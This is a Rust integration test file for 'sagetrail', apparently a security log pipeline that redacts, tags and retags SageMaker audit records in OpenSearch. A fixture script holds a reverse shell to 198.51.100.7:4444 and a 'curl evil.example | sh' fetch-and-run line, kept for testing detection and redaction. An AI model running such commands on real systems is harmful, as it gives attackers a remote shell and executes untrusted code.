//! `sagetrail replay --retag` on a real OpenSearch, also while somebody else writes.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{Method, StatusCode, Uri, header};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};

use super::{KNOWN, MARKER, texts};
use crate::support::search::Search;
use crate::support::{Stack, trail};

/// The command with the servers of the test; it ships every record.
fn sagetrail(stack: &Stack, opensearch: &str, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_sagetrail"));
    command
        .args(arguments)
        .env("AWS_ENDPOINT_URL", &stack.aws)
        .env("SAGETRAIL__SINK__URL", opensearch)
        .env("SAGETRAIL__SELECT__SCOPE", "all")
        .env("SAGETRAIL__REDACTION__KEY", "0123456789abcdef0123456789abcdef")
        .stdin(Stdio::null());
    command
}

fn report(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
        let complaint = String::from_utf8_lossy(&output.stderr);
        panic!("{error}: {}\n{complaint}", String::from_utf8_lossy(&output.stdout))
    })
}

/// Ships records from a file, without any rule of the site.
fn ship(stack: &Stack, folder: &Path, records: &[Value]) {
    let file = folder.join("old.json.gz");
    std::fs::write(&file, trail::file(records)).unwrap();
    let arguments = ["replay", "--format", "json", file.to_str().unwrap()];
    let shipped = report(&sagetrail(stack, &stack.opensearch, &arguments).output().unwrap());
    assert_eq!(shipped["created"], records.len(), "{shipped}");
}

/// Retags the documents of the account with a rule that matches the first record of a trail.
async fn hunt(stack: &Stack, opensearch: &str, folder: &Path, account: &str) -> (Option<i32>, Value) {
    let rules = folder.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("hunt.yml"), HUNT).unwrap();
    // What was just shipped becomes visible to searches.
    documents(stack, account).await;
    let arguments = ["replay", "--retag", "--format", "json", "--account", account];
    let mut command = sagetrail(stack, opensearch, &arguments);
    command.env("SAGETRAIL__RULES__FOLDER", &rules);
    let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
    (output.status.code(), report(&output))
}

async fn documents(stack: &Stack, account: &str) -> Vec<Value> {
    let query = json!({"term": {"cloud.account.id": account}});
    let found = Search::new(&stack.opensearch).find("sagetrail-events", query, &["*"]).await;
    found.into_values().flatten().map(|hit| hit.source).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_redaction_took_whole_out_of_the_text_keeps_its_findings_and_its_host() {
    let Some(stack) = Stack::running() else { return };
    let account = "600000000009";
    let folder = tempfile::tempdir().unwrap();
    let script = "#!/bin/bash\nexport API_TOKEN=hunter2hunter2hunter2\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\
                  curl -s http://evil.example/x | sh\n";
    let mut record = trail::record(account, 0);
    record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
    record["requestParameters"] = json!({
        "notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": BASE64_STANDARD.encode(script)}]
    });
    let mut plain = trail::record(account, 4);
    plain["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
    plain["requestParameters"] = json!({
        "notebookInstanceLifecycleConfigName": "plain", "onStart": [{"content": BASE64_STANDARD.encode("curl -s http://plain.example/x | sh")}]
    });
    ship(&stack, folder.path(), &[record, plain]);
    // As documents are that were written when a script with a secret was replaced as a whole.
    let replace = json!({
        "query": {"bool": {"filter": [{"term": {"cloud.account.id": account}}, {"term": {"related.hosts": "evil.example"}}]}},
        "script": {"source": "ctx._source.event.original = params.original", "params": {"original": json!({
            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateNotebookInstanceLifecycleConfig",
            "recipientAccountId": account, "awsRegion": "eu-central-1",
            "requestParameters": {"notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": MARKER}]}
        }).to_string()}}
    });
    let search = Search::new(&stack.opensearch);
    search.request("POST", "sagetrail-events*/_refresh", None).await;
    let path = "sagetrail-events/_update_by_query?refresh=true";
    let (status, answer) = search.request("POST", path, Some(replace)).await;
    assert_eq!((status, &answer["updated"]), (200, &json!(1)), "{answer}");
    let before = documents(&stack, account).await;

    let (code, summary) = hunt(&stack, &stack.opensearch, folder.path(), account).await;
    assert_eq!(
        (code, &summary["retagged"], &summary["changed"], &summary["carried"]),
        (Some(0), &json!(2), &json!(0), &json!(1)),
        "{summary}"
    );
    for (before, after) in before.iter().zip(&documents(&stack, account).await) {
        for path in KNOWN.iter().chain(&["/sagemaker/findings", "/sagemaker/severity"]) {
            assert_eq!(texts(after, path), texts(before, path), "{path}");
        }
        assert!(!texts(after, "/sagemaker/lifecycle/script").is_empty(), "{after}");
        assert!(!texts(after, "/sagemaker/findings").is_empty(), "{after}");
        let is_lost = after["event"]["original"].as_str().unwrap().contains(MARKER);
        assert_eq!(after.pointer("/sagemaker/rules/carried").is_some(), is_lost, "{after}");
    }
}

/// Somebody who writes to each document between its being read and being written by a retag.
struct Rival {
    opensearch: String,
    http: reqwest::Client,
    /// Bulks that are answered after the rival was there first.
    times: usize,
    bulks: AtomicUsize,
}

impl Rival {
    async fn between(stack: &Stack, times: usize) -> (String, Arc<Self>) {
        let rival = Arc::new(Self {
            opensearch: stack.opensearch.clone(),
            http: reqwest::Client::new(),
            times,
            bulks: AtomicUsize::new(0),
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let router = Router::new().fallback(pass_on).with_state(Arc::clone(&rival));
        tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
        (url, rival)
    }

    async fn send(&self, method: Method, path: &str, body: Bytes) -> (StatusCode, Bytes) {
        let request = self.http.request(method, format!("{}{path}", self.opensearch));
        let kind = if path.starts_with("/_bulk") { "application/x-ndjson" } else { "application/json" };
        let answer = request.header(header::CONTENT_TYPE, kind).body(body).send().await.unwrap();
        (answer.status(), answer.bytes().await.unwrap())
    }

    /// Writes a note on each document of a bulk.
    async fn write_first(&self, bulk: &[u8], number: usize) {
        let lines = std::str::from_utf8(bulk).unwrap().lines().step_by(2);
        for action in lines.map(|line| serde_json::from_str::<Value>(line).unwrap()) {
            let (index, id) = (action["index"]["_index"].as_str(), action["index"]["_id"].as_str());
            let path = format!("/{}/_update/{}?refresh=true", index.unwrap(), id.unwrap());
            let note = json!({"doc": {"labels": {format!("note_{number}"): "mine"}, "tags": ["triaged"]}});
            let (status, answer) = self.send(Method::POST, &path, note.to_string().into()).await;
            assert!(status.is_success(), "{answer:?}");
        }
    }
}

async fn pass_on(
    State(rival): State<Arc<Rival>>,
    method: Method,
    uri: Uri,
    body: Bytes,
) -> (StatusCode, [(header::HeaderName, &'static str); 1], Bytes) {
    let path = uri.path_and_query().unwrap().as_str();
    if path.starts_with("/_bulk") {
        let number = rival.bulks.fetch_add(1, Ordering::SeqCst);
        if number < rival.times {
            rival.write_first(&body, number).await;
        }
    }
    let (status, answer) = rival.send(method, path, body).await;
    (status, [(header::CONTENT_TYPE, "application/json")], answer)
}

#[tokio::test(flavor = "multi_thread")]
async fn what_somebody_writes_between_reading_and_writing_is_kept_and_the_document_is_retagged_all_the_same()
{
    let Some(stack) = Stack::running() else { return };
    let account = "600000000010";
    let folder = tempfile::tempdir().unwrap();
    ship(&stack, folder.path(), &[trail::record(account, 0), trail::record(account, 2)]);
    let (url, rival) = Rival::between(&stack, 2).await;
    let (code, summary) = hunt(&stack, &url, folder.path(), account).await;
    assert_eq!(
        (code, &summary["retagged"], &summary["changed"], &summary["conflicts"]),
        (Some(0), &json!(2), &json!(1), &json!(0)),
        "{summary}"
    );
    assert_eq!(rival.bulks.load(Ordering::SeqCst), 3, "each conflict is repeated once");
    let after = documents(&stack, account).await;
    for document in &after {
        assert_eq!(document["labels"], json!({"note_0": "mine", "note_1": "mine"}), "{document}");
        assert!(texts(document, "/tags").contains(&json!("triaged").to_string()), "{document}");
        assert_eq!(document["sagemaker"]["rules"]["version"], summary["version"]);
    }
    let hunted = after.iter().filter(|document| document["rule"]["name"].to_string().contains("A hunt"));
    assert_eq!(hunted.count(), 1);
}

/// Takes out what memory says, which `enrich` always has and a cluster only once its script is installed.
fn forget(document: &mut Value) {
    let ours = document["sagemaker"].as_object_mut().unwrap();
    for field in ["context", "first", "usual", "touches"] {
        ours.remove(field);
    }
    for (part, fields) in [
        ("actor", &["chain", "origin", "works_for", "execution_role"][..]),
        ("resource", &["created_by", "created_at", "owner", "is_owner", "age", "configuration", "tags"]),
    ] {
        let Some(part) = ours.get_mut(part).and_then(Value::as_object_mut) else { continue };
        part.retain(|name, _| !fields.contains(&name.as_str()));
    }
}

const HUNT: &str = "title: A hunt\nid: 7c4a7c6e-6c3a-4a9a-9a53-2b1a2f0c6a12\nlevel: high\nlogsource:\n  product: aws\n\
    detection:\n  s:\n    eventName: CreateTrainingJob\n    requestParameters.trainingJobName: job-0\n  condition: s\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_new_rule_hunts_in_old_documents_which_stay_what_they_were_otherwise() {
    let Some(stack) = Stack::running() else { return };
    let account = "600000000008";
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    let mut records: Vec<Value> = (0..6).map(|number| trail::record(account, number)).collect();
    records[0]["requestParameters"]["environment"] =
        json!({"API_TOKEN": "hunter2hunter2", "password": "swordfish1"});
    let file = folder.path().join("old.json.gz");
    std::fs::write(&file, trail::file(&records)).unwrap();
    let path = file.to_str().unwrap();
    let with_rules = |arguments: &[&str]| {
        let mut command = sagetrail(&stack, &stack.opensearch, arguments);
        command.env("SAGETRAIL__REDACTION__KEY", "0123456789abcdef0123456789abcdef");
        command.env("SAGETRAIL__RULES__FOLDER", &rules);
        command.output().expect("the binary runs")
    };
    let search = Search::new(&stack.opensearch);
    let documents = async || {
        search.find("sagetrail-events", json!({"term": {"cloud.account.id": account}}), &["*"]).await
    };
    assert_eq!(report(&with_rules(&["replay", "--format", "json", path]))["created"], 6);
    let before = documents().await;

    std::fs::write(rules.join("hunt.yml"), HUNT).unwrap();
    let retag = ["replay", "--retag", "--format", "json", "--account", account];
    let summary = report(&with_rules(&retag));
    assert_eq!(
        (&summary["outdated"], &summary["retagged"], &summary["changed"]),
        (&json!(6), &json!(6), &json!(1))
    );
    let after = documents().await;
    assert!(before.keys().eq(after.keys()), "each document keeps its id");
    let offline = with_rules(&["enrich", path]).stdout;
    for line in String::from_utf8(offline).unwrap().lines() {
        let mut fresh: Value = serde_json::from_str(line).unwrap();
        let id = fresh["_id"].as_str().unwrap();
        let (old, mut new) = (before[id][0].source.clone(), after[id][0].source.clone());
        for kept in ["ingested", "created", "original"] {
            assert_eq!(new["event"][kept], old["event"][kept], "{kept}");
        }
        assert_eq!(new["sagemaker"]["rules"]["version"], summary["version"]);
        assert_ne!(new["sagemaker"]["rules"]["version"], old["sagemaker"]["rules"]["version"]);
        assert!(new["sagemaker"]["rules"]["retagged"].take().is_string());
        let tags = new.as_object_mut().unwrap().remove("tags");
        assert_eq!(tags, Some(json!(["replay"])), "how it came is kept");
        // What is left is what these rules would have written at first.
        for document in [&mut new, &mut fresh["_source"]] {
            let event = document["event"].as_object_mut().unwrap();
            event.remove("ingested");
            event.remove("created");
            document["sagemaker"]["rules"].as_object_mut().unwrap().remove("retagged");
            forget(document);
        }
        assert_eq!(new, fresh["_source"]);
    }
    let hunted =
        after.values().flatten().filter(|hit| hit.source["rule"]["name"].to_string().contains("A hunt"));
    assert_eq!(hunted.count(), 1);
    assert!(!format!("{after:?}").contains("hunter2hunter2"));

    let again = report(&with_rules(&retag));
    assert_eq!((&again["outdated"], &again["retagged"]), (&json!(0), &json!(0)), "{again}");
}
